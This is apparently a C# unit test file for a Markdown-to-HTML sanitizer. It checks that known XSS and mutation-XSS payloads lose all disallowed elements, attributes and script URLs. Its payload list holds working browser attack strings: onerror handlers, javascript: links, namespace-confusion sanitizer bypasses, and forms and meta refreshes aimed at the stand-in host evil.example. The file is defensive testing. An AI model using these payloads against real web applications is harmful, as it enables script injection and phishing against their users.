using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Rsis.Portal.Application.Common.Text;

namespace Rsis.Portal.UnitTests.Common;

/// <summary>
/// Known mutation-XSS and "swallow the page" payloads through the Markdown renderer, each followed by a
/// paragraph of ordinary text. The result is read back as a browser would (AngleSharp's HTML parser): only
/// allowed elements and attributes, no script-bearing link, nothing that re-parses into something else, and
/// the text after the payload still there.
/// </summary>
public sealed class MarkdownMutationXssTests : IDisposable
{
    private const string TextAfter = "The text after the payload.";

    private static readonly HashSet<string> AllowedElements = new(StringComparer.OrdinalIgnoreCase)
    {
        "p", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li", "pre", "code", "em", "strong", "a", "img",
        "hr", "br", "del", "ins", "mark", "sub", "sup", "table", "thead", "tbody", "tfoot", "tr", "th", "td", "caption",
        "colgroup", "col", "abbr", "b", "i", "u", "s", "small", "cite", "q", "kbd", "samp", "var", "dfn", "time", "wbr",
        "span", "div", "dl", "dt", "dd", "figure", "figcaption",
    };

    private static readonly HashSet<string> AllowedAttributes = new(StringComparer.OrdinalIgnoreCase)
    {
        "href", "src", "alt", "title", "cite", "datetime", "lang", "dir", "start", "reversed", "colspan", "rowspan", "scope", "span",
    };

    private readonly MarkdownRenderer _renderer = new();

    public void Dispose() => _renderer.Dispose();

    public static TheoryData<string> Payloads =>
    [
        // Form controls: a fake sign-in box or a search that posts elsewhere.
        """<form action="https://evil.example/"><input name=q><button>Go</button></form>""",
        """<form><label for=p>Password</label><input type=password id=p><select><option>x</option></select><textarea>t</textarea><button formaction="https://evil.example/">Send</button></form>""",
        // MathML and SVG namespace confusion (DOMPurify bypasses of 2019–2020).
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        """<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">""",
        """<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>""",
        """<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">""",
        """<math><mi><table><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">""",
        """<svg><style><img src=x onerror=alert(1)></style></svg>""",
        """<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>""",
        """<math href="javascript:alert(1)">CLICKME</math>""",
        // Raw-text elements whose end tag hides inside an attribute.
        """<noscript><p title="</noscript><img src=x onerror=alert(1)>">""",
        """<xmp><p title="</xmp><img src=x onerror=alert(1)>">""",
        """<iframe><p title="</iframe><img src=x onerror=alert(1)>">""",
        """<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>""",
        """<noframes><p title="</noframes><img src=x onerror=alert(1)>">""",
        """<template><style></template><img src=x onerror=alert(1)></style></template>""",
        """<title><img src=x onerror=alert(1)></title>""",
        "<style>",
        "<textarea>",
        "Inline <style> in a paragraph",
        // Comment tricks.
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)>-->",
        // Elements that change the page around the body or load another document.
        """<base href="https://evil.example/">""",
        """<meta http-equiv="refresh" content="0;url=https://evil.example/">""",
        """<link rel="stylesheet" href="https://evil.example/x.css">""",
        """<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">""",
        """<iframe src="https://evil.example/"></iframe>""",
        """<script>alert(1)</script>""",
        // Attributes that run script, clobber the page's ids or take over its layout.
        """<a href="jav&#x09;ascript:alert(1)">tab</a> <a href="javascript&colon;alert(1)">colon</a> <a href="&#106;avascript:alert(1)">entity</a>""",
        """<img src=x onerror=alert(1)><details open ontoggle=alert(1)>""",
        """<p id="main-content" name="x" class="position-fixed top-0 start-0 w-100 h-100" style="background:red">clobber</p>""",
        """<a href="data:text/html,<script>alert(1)</script>">data</a>""",
        "[link](javascript:alert(1)) ![img](javascript:alert(1))",
        // An unclosed table or list around the rest.
        "<table><tr><td>open table",
        "</div></div></main><div>closing the page's own elements",
    ];

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Only_allowed_elements_and_attributes_survive_and_the_text_after_stays(string payload)
    {
        var html = _renderer.ToSafeHtml($"Before the payload.\n\n{payload}\n\n{TextAfter}");
        var body = Parse(html);

        foreach (var element in body.QuerySelectorAll("*"))
        {
            Assert.True(AllowedElements.Contains(element.LocalName), $"<{element.LocalName}> survived: {html}");
            Assert.Equal(AngleSharp.Dom.NamespaceNames.HtmlUri, element.NamespaceUri);
            foreach (var attribute in element.Attributes)
            {
                Assert.True(AllowedAttributes.Contains(attribute.Name), $"{attribute.Name}= survived on <{element.LocalName}>: {html}");
                if (attribute.Name is "href" or "src")
                {
                    Assert.DoesNotMatch("^\\s*(javascript|data|vbscript):", attribute.Value.ToLowerInvariant());
                }
            }
        }

        Assert.Contains("Before the payload.", body.TextContent, StringComparison.Ordinal);
        Assert.Contains(TextAfter, body.TextContent, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Payloads))]
    public void The_html_reads_back_the_same_when_a_browser_parses_it_again(string payload)
    {
        // A mutation-XSS payload is one whose serialized form parses into a different tree.
        var html = _renderer.ToSafeHtml($"{payload}\n\n{TextAfter}");

        Assert.Equal(html, Parse(html).InnerHtml);
    }

    [Fact]
    public void A_form_leaves_its_visible_text_and_nothing_to_type_into()
    {
        var body = Parse(_renderer.ToSafeHtml("""<form action="https://evil.example/"><input name=q><button>Go</button></form>"""));

        Assert.Empty(body.QuerySelectorAll("form, input, button"));
        Assert.Equal("Go", body.TextContent.Trim());
    }

    [Fact]
    public void Script_and_style_lose_their_content_with_their_tags()
    {
        var body = Parse(_renderer.ToSafeHtml("Text <style>p { display: none }</style>here.\n\n<script>\nalert(1)\n</script>\n\nAnd more."));

        Assert.Equal("Text here. And more.", string.Join(' ', body.TextContent.Split((char[]?)null, StringSplitOptions.RemoveEmptyEntries)));
    }

    [Fact]
    public void Everything_markdown_writes_is_kept()
    {
        var html = _renderer.ToSafeHtml("""
            ## Heading

            A paragraph with *emphasis*, **strength**, `code`, ~~deleted~~, ++inserted++, ==marked==, H~2~O, x^2^,
            a [link](https://www.rsis.edu.sg/ "RSIS"), <https://www.rsis.edu.sg/> and ![a picture](https://www.rsis.edu.sg/x.png).

            > A quotation.

            3. third
            4. fourth

            - a
            - b

            | Left | Right |
            |------|------:|
            | 1    | 2     |

            ```
            code block
            ```

            ---

            Line<br>break, <abbr title="S. Rajaratnam School of International Studies">RSIS</abbr>, <sup>1</sup>.
            """);
        var body = Parse(html);

        foreach (var selector in new[]
                 {
                     "h2", "em", "strong", "p code", "del", "ins", "mark", "sub", "sup", "a[href='https://www.rsis.edu.sg/'][title='RSIS']",
                     "img[src='https://www.rsis.edu.sg/x.png'][alt='a picture']", "blockquote", "ol[start='3'] li", "ul li",
                     "table thead th", "table tbody td", "pre code", "hr", "br", "abbr[title]",
                 })
        {
            Assert.True(body.QuerySelector(selector) is not null, $"No {selector} in {html}");
        }
    }

    private static IElement Parse(string html)
    {
        var document = new HtmlParser().ParseDocument("<!DOCTYPE html><html><body></body></html>");
        var body = document.Body!;
        body.InnerHtml = html;
        return body;
    }
}
